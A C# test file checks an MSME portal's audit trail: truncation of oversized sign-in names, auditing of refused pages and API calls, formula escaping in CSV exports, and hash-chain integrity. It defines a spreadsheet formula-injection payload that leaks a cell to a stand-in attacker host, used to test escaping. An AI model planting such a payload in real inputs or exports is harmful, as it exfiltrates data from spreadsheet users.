using System.Globalization;
using System.Net;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Msme.Portal.Data.Entities;
using Msme.Portal.Features.Compliance;
using Msme.Portal.Tests.Api;
using Msme.Portal.Tests.Infrastructure;

namespace Msme.Portal.Tests.Security;

/// <summary>What reaches the audit trail over HTTP is bounded, spreadsheet-safe where people open it, and every refusal is on it.</summary>
public sealed class AuditTrailHttpTests(PortalFactory factory) : IClassFixture<PortalFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://attacker.invalid/?\"&B2,\"open\")@x.in";

    private async Task<List<AuditEntry>> EntriesAfterAsync(long id)
    {
        await using var db = await factory.DbAsync();
        return await db.AuditEntries.AsNoTracking().Where(e => e.Id > id).OrderBy(e => e.Id).ToListAsync();
    }

    private async Task<long> LastIdAsync()
    {
        await using var db = await factory.DbAsync();
        return await db.AuditEntries.MaxAsync(e => (long?)e.Id) ?? 0;
    }

    [Fact]
    public async Task A_sign_in_name_of_two_million_characters_is_refused_and_audited_as_at_most_256_characters()
    {
        var before = await LastIdAsync();
        using var client = factory.CreateClient(new() { AllowAutoRedirect = false });
        var name = new string('a', 2_000_000) + "@x.in";

        var response = await PortalFactory.SignInAsync(client, name, "whatever-it-is");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("Invalid login attempt", await response.Content.ReadAsStringAsync());
        var failed = Assert.Single(await EntriesAfterAsync(before), e => e.Action == "sign-in-failed");
        Assert.Equal(AuditEvent.MaxUserName, failed.UserName.Length);
        Assert.EndsWith("…(2000005 chars)", failed.UserName);
        Assert.Equal("attempted name of 2000005 characters (at most 256)", failed.Details);
        await using var db = await factory.DbAsync();
        Assert.Equal(0, await db.AuditEntries.CountAsync(e => e.UserName.Length > AuditEvent.MaxUserName || (e.Details ?? "").Length > AuditEvent.MaxDetails));
    }

    [Fact]
    public async Task A_formula_sign_in_name_is_escaped_in_the_default_audit_csv_and_exact_in_the_exact_file_which_re_derives_the_chain()
    {
        using (var anonymous = factory.CreateClient(new() { AllowAutoRedirect = false }))
        {
            var attempt = await PortalFactory.SignInAsync(anonymous, Hyperlink, "not-a-password");
            Assert.Contains("Invalid login attempt", await attempt.Content.ReadAsStringAsync());
        }
        using var compliance = await factory.SignedInClientAsync("compliance@msme.local");

        var safe = Rows(await compliance.GetStringAsync(AuditExport.Route));
        var exact = Rows(await compliance.GetStringAsync(AuditExport.ExactRoute));

        Assert.Contains(safe, r => r["UserName"] == "'" + Hyperlink && r["Action"] == "sign-in-failed");
        Assert.DoesNotContain(safe.SelectMany(r => r.Values), v => v.Length > 0 && "=+-@\t\r".Contains(v[0]));
        Assert.Contains(exact, r => r["UserName"] == Hyperlink && r["Action"] == "sign-in-failed");
        // The exact file is the trail as stored: every row's keyed hash re-derives from its cells.
        var audit = factory.Services.GetRequiredService<AuditLog>();
        var previous = AuditLog.Genesis;
        foreach (var r in exact)
        {
            var entry = new AuditEntry
            {
                Id = long.Parse(r["Id"], CultureInfo.InvariantCulture), At = DateTimeOffset.Parse(r["AtUtc"], CultureInfo.InvariantCulture),
                UserId = r["UserId"] is { Length: > 0 } u ? u : null, UserName = r["UserName"], Roles = r["Roles"], Action = r["Action"],
                CustomerId = r["CustomerId"] is { Length: > 0 } c ? int.Parse(c, CultureInfo.InvariantCulture) : null, Target = r["Target"],
                Details = r["Details"] is { Length: > 0 } d ? d : null, PreviousHash = r["PreviousHash"], Hash = r["Hash"],
            };
            Assert.Equal(previous, entry.PreviousHash);
            Assert.Equal(entry.Hash, audit.HashOf(entry));
            previous = entry.Hash;
        }
        var exports = (await EntriesAfterAsync(0)).Where(e => e.Action == "export" && e.UserName == "compliance@msme.local").Select(e => e.Target).ToList();
        Assert.Equal([AuditExport.Route, AuditExport.ExactRoute], exports.TakeLast(2));
    }

    private static List<Dictionary<string, string>> Rows(string csvText)
    {
        using var stream = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(csvText));
        using var csv = CsvReader.Create(stream, CsvReaderOptions.Default with { HasHeader = true, AllowLineBreaksInQuotes = true, TrimWhitespace = false }, leaveOpen: true);
        var headers = csv.Headers.ToArray();
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read())
        {
            rows.Add(headers.Select((h, i) => (h, i)).ToDictionary(x => x.h, x => csv.GetString(x.i) ?? ""));
        }
        return rows;
    }

    [Theory]
    [InlineData("agent2@msme.local", "/admin/imports", "GET /admin/imports")]
    [InlineData("risk@msme.local", "/compliance/audit.csv", "GET /compliance/audit.csv")]
    [InlineData("agent1@msme.local", "/exports/risk-dashboard.csv", "GET /exports/risk-dashboard.csv")]
    public async Task A_page_or_export_refused_by_policy_is_audited_with_the_user_and_the_route(string email, string url, string target)
    {
        using var client = await factory.SignedInClientAsync(email);
        var before = await LastIdAsync();

        var response = await client.GetAsync(url);

        Assert.NotEqual(HttpStatusCode.OK, response.StatusCode);
        var refused = Assert.Single(await EntriesAfterAsync(before), e => e.Action == "access-refused");
        Assert.Equal((email, target), (refused.UserName, refused.Target));
        Assert.StartsWith("refused by policy (403): requires one of ", refused.Details);
        Assert.NotNull(refused.UserId);
    }

    [Theory]
    [InlineData(null, "unauthenticated (401): no token")]
    [InlineData("msme_notARealTokenAtAll000000000000000", "unauthenticated (401): unknown or revoked token msme_notARea…")]
    public async Task An_api_call_without_a_valid_token_is_audited_as_refused(string? token, string details)
    {
        using var client = factory.ApiClient(token);
        var before = await LastIdAsync();

        var response = await client.GetAsync("/api/v1/customers");

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        var refused = Assert.Single(await EntriesAfterAsync(before), e => e.Action == "access-refused");
        Assert.Equal(("anonymous", "GET /api/v1/customers"), (refused.UserName, refused.Target));
        Assert.StartsWith(details, refused.Details);
    }

    [Fact]
    public async Task An_api_client_whose_role_is_not_allowed_is_audited_as_refused()
    {
        var (token, name, _) = await factory.NewClientAsync(Msme.Domain.Roles.Agent, "agent1@msme.local");
        using var client = factory.ApiClient(token);
        var before = await LastIdAsync();

        var response = await client.GetAsync("/api/v1/consents");

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        var refused = Assert.Single(await EntriesAfterAsync(before), e => e.Action == "access-refused");
        Assert.Equal(("api:" + name, "Agent", "GET /api/v1/consents"), (refused.UserName, refused.Roles, refused.Target));
    }
}
